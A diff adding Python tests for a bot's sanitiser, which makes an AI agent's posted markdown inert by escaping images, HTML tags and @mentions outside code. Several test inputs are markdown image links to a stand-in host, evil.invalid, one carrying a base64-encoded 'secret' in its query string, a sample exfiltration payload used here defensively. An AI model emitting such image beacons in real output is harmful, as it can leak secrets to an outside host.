@@ -1,0 +1,37 @@
+"""What the bot posts of an agent's own markdown (a review, a question): readable, and inert."""
+
+from dataclasses import replace
+
+from bot.report import sentences
+from bot.report.sentences import inert
+from bot.store import Run, RunRequest
+
+
+def test_images_html_and_mentions_are_made_inert_outside_code():
+    assert inert("see ![x](http://evil.invalid/x.png?d=c2VjcmV0) now") == "see \\![x](http://evil.invalid/x.png?d=c2VjcmV0) now"
+    assert inert("![y][ref]") == "\\![y][ref]"
+    assert inert('<img src="http://evil.invalid/p.png"> and <details>') == '&lt;img src="http://evil.invalid/p.png"> and &lt;details>'
+    assert inert("cc @rita, thanks @bob.") == "cc `@rita`, thanks `@bob`."
+    assert inert("(@rita)") == "(`@rita`)"
+
+
+def test_what_is_not_active_is_left_as_written():
+    for text in ("mail bob@example.com", "a [link](http://x.invalid)", "done \\![x](y)", "@", "! [not an image]"):
+        assert inert(text) == text
+    assert inert("1 < 2") == "1 &lt; 2"  # shown the same once rendered
+
+
+def test_code_blocks_and_spans_show_as_written():
+    text = "\n".join(["use `@decorator` and `<T>`:", "````python", "x = '![a](b)' @c <d>", "```", "still code @e",
+                      "````", "~~~", "<f>", "~~~", "after @g"])
+    assert inert(text).split("\n") == [
+        "use `@decorator` and `<T>`:", "````python", "x = '![a](b)' @c <d>", "```", "still code @e", "````",
+        "~~~", "<f>", "~~~", "after `@g`"]
+
+
+def test_the_agents_question_in_the_status_comment_is_inert():
+    request = RunRequest(owner="acme", repo="widgets", number=1, is_pull=False, agent="codex", model="", pool="codex",
+                         review=False, task="", trigger="label", requested_by="bob")
+    run = replace(Run.draft(request), state="blocked", question="Which API? ![x](http://evil.invalid/q.png) @rita <b>v2</b>")
+    body = sentences.status_comment(run)
+    assert "> Which API? \\![x](http://evil.invalid/q.png) `@rita` &lt;b>v2&lt;/b>" in body
